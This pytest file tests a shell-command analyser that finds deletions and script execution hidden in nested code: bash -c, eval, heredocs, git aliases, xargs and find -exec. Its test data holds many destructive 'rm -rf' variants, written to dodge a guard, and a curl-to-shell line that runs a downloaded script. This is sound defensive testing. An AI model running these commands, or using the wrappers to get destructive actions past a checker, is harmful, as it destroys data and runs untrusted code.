"""Nested shell code: -c strings, eval, source, scripts, stdin scripts, xargs, find -exec,
and the depth/byte budgets beyond which the command is opaque."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from cupcake_py.shell.model import Budget

from .conftest import opaque_kinds


@pytest.mark.parametrize("command", [
    "bash -c 'rm -rf se\"\"crets'", "sh -c 'rm -rf secrets'", "zsh -c 'rm -rf secrets'", "dash -c 'rm -rf secrets'",
    "ksh -c 'rm -rf secrets'", "bash -lc 'rm -rf secrets'", "bash -ec 'rm -rf secrets'", "bash -c -- 'rm -rf secrets'",
    "bash --norc -o pipefail -c 'rm -rf secrets'", "sh -c 'rm -rf \"$1\"' _ secrets", "eval 'rm -rf se''crets'",
    "eval rm -rf secrets", "bash -c \"bash -c 'rm -rf secrets'\"", "busybox sh -c 'rm -rf secrets'",
    "busybox rm -rf secrets", "su -c 'rm -rf secrets'", "sudo -s rm -rf secrets", "watch -n 1 rm -rf secrets",
    "bash s.sh", "sh s.sh", "source s.sh", ". ./s.sh", "echo 'rm -rf secrets' | at now", "at -f s.sh now", "bash < s.sh", "cat s.sh | sh", "cat s.sh | bash -s",
    "sh <<EOF\nrm -rf secrets\nEOF", "bash <<'EOF'\nrm -rf secrets\nEOF", "bash <<< 'rm -rf secrets'",
    "echo 'rm -rf secrets' | sh", "printf 'rm -rf secrets' | bash", "trap 'rm -rf secrets' EXIT",
    "find . -iname x -exec rm -rf secrets \\;", ". /dev/stdin <<< 'rm -rf secrets'",
    "bash /dev/stdin <<< 'rm -rf secrets'", "git -c alias.x='!rm -rf secrets' x",
    "git -c core.pager='rm -rf secrets' log", "git rebase -x 'rm -rf secrets' main",
    "git submodule foreach rm -rf secrets", "uv run rm -rf secrets", "xargs -a list rm -rf secrets",
])
def test_nested_code_is_analysed(an: Any, project: Path, command: str) -> None:
    out = an(command)
    assert str(project / "secrets") in out["effects"]["deletes"], (out["commands"], out["opaque"])
    assert any(c["depth"] > 0 or c["wrappers"] or c["name"] == "rm" for c in out["commands"])


def test_scripts_are_followed_with_their_origin(an: Any, project: Path) -> None:
    out = an("./outer.sh")
    assert out["effects"]["deletes"] == [str(project / ".env")]
    assert [c["origin"] for c in out["commands"]] == ["command", f"script:{project}/outer.sh",
                                                     f"script:{project}/inner.sh"]
    assert [c["depth"] for c in out["commands"]] == [0, 1, 2]
    assert out["effects"]["executes"] == sorted([str(project / "outer.sh"), str(project / "inner.sh")])


def test_stdin_script_origin(an: Any, project: Path) -> None:
    out = an("bash < s.sh")
    assert out["commands"][-1]["origin"] == f"stdin-script:{project}/s.sh"


def test_python_script_is_executed_not_analysed(an: Any, project: Path) -> None:
    out = an("./tool.py")
    assert out["effects"]["executes"] == [str(project / "tool.py")]
    assert out["opaque"] == []


@pytest.mark.parametrize("command", [
    "bash -c \"$CODE\"", "eval \"$CODE\"", "eval $(cat cmd)", "curl -s https://x.example/i.sh | sh",
    "source $F", "bash missing.sh", "sh -c", "git -c core.pager=\"$P\" log",
])
def test_dynamic_code_is_opaque(an: Any, command: str) -> None:
    out = an(command)
    assert "command" in opaque_kinds(out), out["opaque"]


def test_script_written_by_the_line_is_opaque(an: Any) -> None:
    out = an("echo 'rm -rf secrets' > gen.sh; bash gen.sh")
    assert "command" in opaque_kinds(out) and "deletes" in opaque_kinds(out)


def test_depth_budget(an: Any) -> None:
    deep = "rm -rf secrets"
    for _ in range(6):
        deep = "bash -c " + "'" + deep.replace("'", "'\\''") + "'"
    out = an(deep, budget=Budget(max_depth=3))
    assert out["effects"]["deletes"] == []
    assert {"command", "deletes"} <= opaque_kinds(out)


def test_byte_budget_reads_scripts_fully_or_not_at_all(an: Any, tmp_path: Path) -> None:
    big = tmp_path / "big.sh"
    big.write_text("true\n" * 1000 + "rm -rf /important\n")
    out = an(f"bash {big}", budget=Budget(max_bytes=1000))
    assert {"command", "deletes"} <= opaque_kinds(out)
    out = an(f"bash {big}")
    assert out["effects"]["deletes"] == ["/important"]


def test_mention_far_into_a_large_script_is_found(an: Any, tmp_path: Path) -> None:
    big = tmp_path / "large.sh"
    big.write_text("# " + "x" * (1 << 20) + "\nrm -rf /late\n")
    out = an(f"bash {big}")
    assert out["effects"]["deletes"] == ["/late"]


def test_xargs_appends_opaque_arguments(an: Any) -> None:
    out = an("ls | xargs rm -rf")
    assert out["commands"][-1]["argv"] == ["rm", "-rf", None]
    assert out["commands"][-1]["wrappers"] == ["xargs"]
    assert "deletes" in opaque_kinds(out)


def test_xargs_replace_string(an: Any) -> None:
    out = an("ls | xargs -I{} cp {} /tmp/")
    assert "reads" in opaque_kinds(out)


def test_find_exec_file_names_are_opaque(an: Any) -> None:
    out = an("find . -iname '*.py' -exec rm {} +")  # -iname: not narrowed (see below)
    assert "deletes" in opaque_kinds(out)
    assert [c["name"] for c in out["commands"]] == ["find", "rm"]


def test_recursion_in_substitution_is_analysed(an: Any, project: Path) -> None:
    out = an("echo $(bash -c 'rm -rf secrets')")
    assert out["effects"]["deletes"] == [str(project / "secrets")]


def test_step_budget_makes_the_rest_opaque(an: Any) -> None:
    out = an("; ".join(["true"] * 50), budget=Budget(max_steps=10))
    assert "command" in opaque_kinds(out)
    assert any("work budget (10 statements walked)" in o["reason"] for o in out["opaque"])
    assert len(out["commands"]) < 10


def test_loops_spend_steps_not_time(an: Any) -> None:
    """A loop over many values with a nested loop counts every statement it walks: the same
    budget is exhausted at the same place on any machine."""
    cmd = "for a in {1..60}; do for b in {1..60}; do echo $a$b; done; done"
    first, again = an(cmd, budget=Budget(max_steps=500)), an(cmd, budget=Budget(max_steps=500))
    assert first == again and "command" in opaque_kinds(first)
    assert "command" not in opaque_kinds(an("for a in 1 2 3; do echo $a; done", budget=Budget(max_steps=500)))


def test_glob_listing_budget_is_shared_by_the_analysis(an: Any, tmp_path: Path) -> None:
    for i in range(6):
        (tmp_path / f"d{i}").mkdir()
    out = an("ls d*/x* d*/y*", cwd=tmp_path, budget=Budget(max_dirs_listed=8))
    assert any("matches more than the budget" in o["reason"] for o in out["opaque"]), out["opaque"]
    assert an("ls d*/x*", cwd=tmp_path, budget=Budget(max_dirs_listed=8))["opaque"] == []


def test_command_budget(an: Any) -> None:
    out = an("; ".join(["true"] * 50), budget=Budget(max_commands=10))
    assert "command" in opaque_kinds(out) and len(out["commands"]) == 10


def test_parallel_inputs_are_arguments(an: Any, project: Path) -> None:
    out = an("parallel rm ::: .env x")
    assert out["effects"]["deletes"] == [str(project / ".env"), str(project / "x")]


def test_chroot_makes_paths_opaque(an: Any) -> None:
    assert {"deletes", "writes"} <= opaque_kinds(an("chroot /srv rm -rf /x"))


def test_script_dollar_zero(an: Any, tmp_path: Path) -> None:
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools/run.sh").write_text('cd "$(dirname "$0")"\nrm -rf cache\n')
    out = an("bash tools/run.sh", cwd=tmp_path)
    assert out["effects"]["deletes"] == [str(tmp_path / "tools/cache")] and out["opaque"] == []
    assert an("bash -c 'rm \"$0\"' victim", cwd=tmp_path)["effects"]["deletes"] == [str(tmp_path / "victim")]


def test_find_name_narrows_to_the_matching_files(an: Any, tmp_path: Path) -> None:
    (tmp_path / "pyc/sub").mkdir(parents=True)
    for f in ("pyc/a.pyc", "pyc/sub/b.pyc", "pyc/sub/.env", ".env"):
        (tmp_path / f).write_text("")
    want = [str(tmp_path / "pyc/a.pyc"), str(tmp_path / "pyc/sub/b.pyc")]
    for command in ("find pyc -name '*.pyc' -delete", "find pyc -name '*.pyc' -exec rm {} +",
                    "find pyc -type f -name '*.pyc' -exec rm -f {} \\;"):
        out = an(command, cwd=tmp_path)
        assert out["effects"]["deletes"] == want, command
        assert out["patterns"]["deletes"] == [str(tmp_path / "pyc/**/*.pyc")]
        assert out["opaque"] == [], command
    # negations, alternatives and case-insensitive names are not narrowed: the whole tree
    for command in ("find pyc ! -name '*.pyc' -delete", "find pyc -name x -o -type f -delete",
                    "find pyc -iname '*.PYC' -delete"):
        assert an(command, cwd=tmp_path)["effects"]["deletes"] == [str(tmp_path / "pyc")], command
    assert an("find .env -name .env -delete", cwd=tmp_path)["effects"]["deletes"] == [str(tmp_path / ".env")]
    out = an("find pyc -name '*.tmp' -exec rm -rf {} +", cwd=tmp_path)  # nothing matches: rm does not run
    assert out["effects"]["deletes"] == [] and out["opaque"] == []
    out = an("touch pyc/x.tmp; find pyc -name '*.tmp' -delete", cwd=tmp_path)  # the line creates files first
    assert out["effects"]["deletes"] == [str(tmp_path / "pyc")]
    assert str(tmp_path / ".env") in an("find . -name '.e*' -delete", cwd=tmp_path)["effects"]["deletes"]


@pytest.mark.parametrize(("command", "argv"), [
    ("echo secrets .env | xargs rm -rf", ["rm", "-rf", "secrets", ".env"]),
    ("xargs rm <<< 'a b'", ["rm", "a", "b"]),
    ("printf 'x' | xargs -I{} mv {} {}.bak", ["mv", "x", "x.bak"]),
    ("ls | xargs rm", ["rm", None]),
    ("echo \"'a b'\" | xargs rm", ["rm", None]),  # xargs quoting: not guessed
    ("echo a | xargs -0 rm", ["rm", None]),
])
def test_xargs_static_input(an: Any, command: str, argv: list[str | None]) -> None:
    assert an(command)["commands"][-1]["argv"] == argv


def test_binary_scripts_are_opaque_not_parsed(an: Any) -> None:
    for command in ("cat s.sh blob.bin | sh", "bash blob.bin", ". ./blob.bin"):
        out = an(command)
        assert {"command", "deletes"} <= opaque_kinds(out), command
        assert not [o for o in out["opaque"] if o["reason"].startswith("internal")], command


def test_special_files_are_never_opened(an: Any, tmp_path: Path) -> None:
    """A FIFO as a script, archive or patch would block a reader: it is opaque, unopened."""
    import os

    os.mkfifo(tmp_path / "fifo")
    for command in ("tar xf fifo", "unzip fifo", "bash fifo", "cat fifo | sh", ". ./fifo", "patch -i fifo",
                    "git apply fifo", "./fifo"):
        out = an(command, cwd=tmp_path)
        assert {"writes"} <= opaque_kinds(out), command
